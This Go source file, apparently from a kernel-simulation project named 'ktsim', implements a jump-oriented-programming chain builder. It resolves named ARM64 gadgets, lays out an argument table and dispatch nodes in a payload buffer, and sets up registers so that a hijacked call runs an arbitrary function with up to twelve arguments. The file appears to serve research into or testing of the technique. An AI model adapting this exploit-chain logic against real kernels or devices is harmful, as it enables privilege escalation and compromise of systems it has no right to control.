package jop

import (
	"ktsim/internal/gadget"
	"ktsim/internal/kerrors"
)

// Layout shared by the three prologue/epilogue-hijack strategies (3, 5, 6).
// An argument table at sArgsTable feeds gadget_populate_{1,2,3}'s fixed
// ldp/ldr sequence (x2-x7 plus the four table words it relays onto the real
// stack for the callee to read as stack-passed arguments), and a small device
// block — co-located with the table, at the cost of gadget_call_function_1's
// self-check reading a live argument word rather than a dedicated pointer —
// lets the post-call x8 recovery still name a concrete address (see
// DESIGN.md for the simplification this accepts).
const (
	sArgsTable   = 0x20
	sResultSlot  = 0x120
	sNodeStart   = 0x180
	sPayloadSize = 0x300
)

func writeArgsTable(buf []byte, tableBase uint64, regArgs []uint64) {
	for i, v := range regArgs {
		putU64(buf, int(tableBase)+i*8, v)
	}
}

type prologueGadgets struct {
	populate    string
	storeResult string
}

// buildPrologueStrategy is the shared bootstrap for strategies 3, 5 and 6:
// strategy1.go's register-relay idiom (mov-then-resume-dispatch gadgets)
// cached into x19/x20/x23/x24, then a single populate gadget reads the
// remaining arguments from a table and spills the stack-passed tail onto
// the real stack before the hijacked call runs.
func buildPrologueStrategy(name string, g prologueGadgets, maxArgs int, a BuildArgs, buf []byte) (BuildResult, error) {
	resolve := func(n string) (uint64, error) {
		v, ok := a.Gadgets.Resolve(n)
		if !ok {
			return 0, kerrors.New(kerrors.FunctionalityUnavailable, "%s: %s gadget not resolved", name, n)
		}
		return v, nil
	}

	dispatch, err := resolve(gadget.Dispatch)
	if err != nil {
		return BuildResult{}, err
	}
	seed, err := resolve(gadget.MovX8X6BrX6)
	if err != nil {
		return BuildResult{}, err
	}
	movX10X4, err := resolve(gadget.MovX10X4BrX8)
	if err != nil {
		return BuildResult{}, err
	}
	movX9X10, err := resolve(gadget.MovX9X10BrX8)
	if err != nil {
		return BuildResult{}, err
	}
	cacheX19, err := resolve(gadget.MovX19X9BrX8)
	if err != nil {
		return BuildResult{}, err
	}
	movX12X3, err := resolve(gadget.MovX12X3BrX8)
	if err != nil {
		return BuildResult{}, err
	}
	cacheX20, err := resolve(gadget.MovX20X12BlrX8)
	if err != nil {
		return BuildResult{}, err
	}
	cacheX24, err := resolve(gadget.MovX24X2BrX8)
	if err != nil {
		return BuildResult{}, err
	}
	cacheX23, err := resolve(gadget.MovX23X0BlrX8)
	if err != nil {
		return BuildResult{}, err
	}
	cacheX25, err := resolve(gadget.MovX25X0BlrX8)
	if err != nil {
		return BuildResult{}, err
	}
	populate, err := resolve(g.populate)
	if err != nil {
		return BuildResult{}, err
	}
	callFn, err := resolve(gadget.GadgetCallFunction1)
	if err != nil {
		return BuildResult{}, err
	}
	storeResult, err := resolve(g.storeResult)
	if err != nil {
		return BuildResult{}, err
	}
	ret, err := resolve(gadget.Ret)
	if err != nil {
		return BuildResult{}, err
	}

	base := a.PayloadAddr
	args := padArgs(a.Args, maxArgs)

	// x0 and x1 arrive from the x19/x20 relay below; everything from
	// args[2] up fills the table gadget_populate_{1,2,3} reads.
	writeArgsTable(buf, sArgsTable, args[2:])
	putU64(buf, sArgsTable+0xd0, dispatch) // second hop of gadget_call_function_1's x8 recovery

	node := func(i int) uint64 { return base + sNodeStart + uint64(i*0x10) }
	n := 0
	write := func(target uint64) {
		writeNode(buf, sNodeStart+n*0x10, target, node(n+1))
		n++
	}
	write(movX10X4)  // x10 = x4 (args[0])
	write(movX9X10)  // x9 = x10 (args[0])
	write(cacheX19)  // x19 = x9 = args[0]
	write(movX12X3)  // x12 = x3 (args[1])
	write(cacheX20)  // x20 = x12 = args[1]
	write(cacheX24)  // x24 = x2 (func)
	write(cacheX23)  // x23 = x0 (args table)
	write(cacheX25)  // x25 = x0 (args table, doubling as the post-call device pointer)
	write(populate)  // x0=x19, x1=x20, x2-x7/stack <- table; blr x8
	write(callFn)    // blr x24; stash result in x19; recover x8 via x25; resume
	writeNode(buf, sNodeStart+n*0x10, storeResult, 0)
	n++
	writeNode(buf, sNodeStart+n*0x10, ret, 0)

	var initial InitialState
	initial.PC = seed
	initial.X[0] = base + sArgsTable
	initial.X[1] = node(0)
	initial.X[2] = a.Func
	initial.X[3] = args[1]
	initial.X[4] = args[0]
	initial.X[6] = dispatch

	return BuildResult{Initial: initial, ResultAddr: base + sResultSlot}, nil
}

// Strategy3 is spec.md §4.F's first stack-argument fallback: strategy1.go's
// register-relay idiom wrapped around gadget_populate_1's table read and
// gadget_store_result_1's result stash. gadget_populate_1 stores x9-x12
// and x21/x22 onto the stack (0x30 bytes), but this chain loads arguments
// only into x9-x12, so the capacity it delivers is 8 register arguments
// plus 4 stack words (0x20 bytes); the two stack words at [sp,#0x20] hold
// whatever x21/x22 contain (see DESIGN.md).
var Strategy3 = Strategy{
	Name: "strategy3",
	RequiredGadgets: []string{
		gadget.Dispatch, gadget.MovX8X6BrX6, gadget.MovX10X4BrX8,
		gadget.MovX9X10BrX8, gadget.MovX19X9BrX8, gadget.MovX12X3BrX8,
		gadget.MovX20X12BlrX8, gadget.MovX24X2BrX8, gadget.MovX23X0BlrX8,
		gadget.MovX25X0BlrX8, gadget.GadgetPopulate1, gadget.GadgetCallFunction1,
		gadget.GadgetStoreResult1, gadget.Ret,
	},
	PayloadSize:   sPayloadSize,
	StackArgBytes: 0x20,
	MaxArgs:       12,
	Build: func(a BuildArgs, buf []byte) (BuildResult, error) {
		return buildPrologueStrategy("strategy3", prologueGadgets{
			populate:    gadget.GadgetPopulate1,
			storeResult: gadget.GadgetStoreResult1,
		}, 12, a, buf)
	},
}
